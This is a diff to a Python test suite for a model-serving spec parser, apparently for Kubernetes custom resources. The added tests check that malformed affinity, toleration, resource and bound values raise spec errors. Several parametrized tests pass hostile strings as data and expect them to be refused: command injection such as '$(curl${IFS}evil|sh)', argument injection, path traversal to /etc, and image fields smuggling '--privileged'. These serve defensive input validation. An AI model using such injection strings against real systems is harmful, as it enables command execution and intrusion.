@@ -159,9 +159,11 @@ def test_empty_cache_claim_name_falls_back_to_default(cache_claim: str | None) -
 
 @pytest.mark.parametrize("tp", [1, 2, 4, 8])
 def test_tensor_parallel_sizes_with_matching_gpus(tp: int) -> None:
-    s = spec.parse(raw_spec(engine={"tensorParallelSize": tp}, serving={"gpusPerReplica": tp * 2}))
+    # At most 8 GPUs per replica, as the CRD says (the parser allowed 64 before issue 21).
+    gpus = min(tp * 2, 8)
+    s = spec.parse(raw_spec(engine={"tensorParallelSize": tp}, serving={"gpusPerReplica": gpus}))
     assert s.engine.tensor_parallel_size == tp
-    assert s.serving.gpus_per_replica == tp * 2
+    assert s.serving.gpus_per_replica == gpus
 
 
 def test_empty_preferred_batch_sizes_are_allowed() -> None:
@@ -334,3 +336,203 @@ def test_non_integer_preferred_batch_size_is_a_spec_error() -> None:
 def test_fractional_preferred_batch_size_is_rejected() -> None:
     with pytest.raises(SpecError):
         spec.parse(raw_spec(serving={"dynamicBatching": {"preferredBatchSizes": [4.5, 8]}}))
+
+
+# ---- issue 21: what the CRD cannot (or could not, for objects stored before) keep out ------
+
+
+def _affinity(node_affinity: Any) -> dict[str, Any]:
+    return raw_spec(serving={"affinity": {"nodeAffinity": node_affinity}})
+
+
+@pytest.mark.parametrize(
+    ("raw", "field"),
+    [
+        # The review's crashing shapes (M2): a string or a number where the core type has an
+        # object or a list.
+        (_affinity({"requiredDuringSchedulingIgnoredDuringExecution": "x"}), "nodeAffinity."),
+        (
+            _affinity(
+                {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": ["x"]}}
+            ),
+            "nodeSelectorTerms[0]",
+        ),
+        (
+            _affinity(
+                {
+                    "requiredDuringSchedulingIgnoredDuringExecution": {
+                        "nodeSelectorTerms": [{"matchExpressions": ["x"]}]
+                    }
+                }
+            ),
+            "matchExpressions[0]",
+        ),
+        (
+            _affinity(
+                {
+                    "requiredDuringSchedulingIgnoredDuringExecution": {
+                        "nodeSelectorTerms": [
+                            {"matchExpressions": [{"key": "k", "operator": "In", "values": 5}]}
+                        ]
+                    }
+                }
+            ),
+            "matchExpressions[0].values",
+        ),
+        (raw_spec(serving={"affinity": "x"}), "spec.serving.affinity"),
+        (raw_spec(serving={"affinity": {"nodeAfinity": {}}}), "spec.serving.affinity.nodeAfinity"),
+        (
+            raw_spec(
+                serving={
+                    "affinity": {
+                        "podAntiAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [{}]}
+                    }
+                }
+            ),
+            "topologyKey",
+        ),
+        (raw_spec(serving={"tolerations": ["x"]}), "spec.serving.tolerations[0]"),
+        (raw_spec(serving={"tolerations": [{"operator": "Matches"}]}), "tolerations[0].operator"),
+        (raw_spec(serving={"nodeSelector": ["x"]}), "spec.serving.nodeSelector"),
+        (raw_spec(serving={"nodeSelector": {"pool": 5}}), "spec.serving.nodeSelector.pool"),
+        (raw_spec(serving={"resources": {"requests": "x"}}), "spec.serving.resources.requests"),
+        (raw_spec(serving={"resources": {"limits": {"cpu": [1]}}}), "resources.limits.cpu"),
+        (raw_spec(engine={"gpuProducts": "NVIDIA-L20"}), "spec.engine.gpuProducts"),
+        # Lenient parses of the review's L7: strings that used to read as True.
+        (raw_spec(serving={"streaming": "false"}), "spec.serving.streaming"),
+        (raw_spec(autoscaling={"enabled": "false"}), "spec.autoscaling.enabled"),
+        # Bounds of the CRD.
+        (raw_spec(serving={"gpusPerReplica": 64}), "spec.serving.gpusPerReplica"),
+        (
+            raw_spec(serving={"dynamicBatching": {"maxQueueDelayMicroseconds": 10**9}}),
+            "maxQueueDelayMicroseconds",
+        ),
+        (raw_spec(engine={"maxNumTokens": 1 << 24}), "spec.engine.maxNumTokens"),
+    ],
+)
+def test_malformed_core_types_are_spec_errors_not_crashes(raw: dict[str, Any], field: str) -> None:
+    with pytest.raises(SpecError) as err:
+        spec.parse(raw)
+    assert field in err.value.field
+
+
+def test_a_bounded_affinity_still_parses() -> None:
+    affinity = {
+        "nodeAffinity": {
+            "requiredDuringSchedulingIgnoredDuringExecution": {
+                "nodeSelectorTerms": [
+                    {"matchExpressions": [{"key": "pool", "operator": "In", "values": ["tts"]}]}
+                ]
+            },
+            "preferredDuringSchedulingIgnoredDuringExecution": [
+                {
+                    "weight": 10,
+                    "preference": {
+                        "matchFields": [
+                            {"key": "metadata.name", "operator": "NotIn", "values": ["n1"]}
+                        ]
+                    },
+                }
+            ],
+        },
+        "podAntiAffinity": {
+            "preferredDuringSchedulingIgnoredDuringExecution": [
+                {
+                    "weight": 100,
+                    "podAffinityTerm": {
+                        "topologyKey": "kubernetes.io/hostname",
+                        "labelSelector": {"matchLabels": {"app": "tts"}},
+                    },
+                }
+            ]
+        },
+    }
+    tolerations = [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
+    s = spec.parse(raw_spec(serving={"affinity": affinity, "tolerations": tolerations}))
+    assert dict(s.serving.affinity) == affinity
+    assert s.serving.tolerations == tuple(tolerations)
+
+
+def test_an_affinity_over_the_bounds_is_refused() -> None:
+    values = [f"v{i}" for i in range(65)]
+    raw = _affinity(
+        {
+            "requiredDuringSchedulingIgnoredDuringExecution": {
+                "nodeSelectorTerms": [
+                    {"matchExpressions": [{"key": "k", "operator": "In", "values": values}]}
+                ]
+            }
+        }
+    )
+    with pytest.raises(SpecError, match="at most 64 items"):
+        spec.parse(raw)
+
+
+@pytest.mark.parametrize(
+    "revision",
+    [
+        "$(curl${IFS}evil|sh)",
+        ";`id`'\"&&",
+        "--pvc-root=/etc",
+        "../../x",
+        "a..b",
+        "a\x00b",
+        "a\x1bb",
+        "a\u2028b",
+        "a\xa0b",
+    ],
+)
+def test_hostile_revisions_are_refused(revision: str) -> None:
+    with pytest.raises(SpecError) as err:
+        spec.parse(raw_spec(model={"revision": revision}))
+    assert err.value.field == "spec.model.revision"
+
+
+@pytest.mark.parametrize(
+    "revision", ["main", "refs/pr/1", "v1.0.2", "a" * 40, "3HL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY+M="]
+)
+def test_ordinary_revisions_parse(revision: str) -> None:
+    assert spec.parse(raw_spec(model={"revision": revision})).model.revision == revision
+
+
+@pytest.mark.parametrize(
+    "uri",
+    [
+        "s3://bucket/$(id)/x",
+        "s3://bucket/a/../../etc",
+        "pvc://claim/../other",
+        "pvc://claim/./x",
+        "s3://bucket/a\x1bb",
+        "s3://bucket/a\x00b",
+    ],
+)
+def test_hostile_paths_are_refused(uri: str) -> None:
+    with pytest.raises(SpecError) as err:
+        spec.parse(raw_spec(model={"uri": uri}))
+    assert err.value.field == "spec.model.uri"
+
+
+@pytest.mark.parametrize(
+    ("section", "key", "image"),
+    [
+        ("engine", "builderImage", "evil.example/x:1 --privileged"),
+        ("serving", "image", "$(curl evil)"),
+        ("serving", "image", "registry.example/x\x1b[2J"),
+    ],
+)
+def test_images_must_be_image_references(section: str, key: str, image: str) -> None:
+    with pytest.raises(SpecError) as err:
+        spec.parse(raw_spec(**{section: {key: image}}))
+    assert err.value.field == f"spec.{section}.{key}"
+
+
+def test_digests_are_image_references() -> None:
+    image = "nvcr.io/nvidia/tritonserver@sha256:" + "a" * 64
+    assert spec.parse(raw_spec(serving={"image": image})).serving.image == image
+
+
+@pytest.mark.parametrize("secret", ["Hf-Token", "a/b", "x" * 254])
+def test_credentials_secret_must_be_a_secret_name(secret: str) -> None:
+    with pytest.raises(SpecError) as err:
+        spec.parse(raw_spec(model={"credentialsSecret": secret}))
+    assert err.value.field == "spec.model.credentialsSecret"
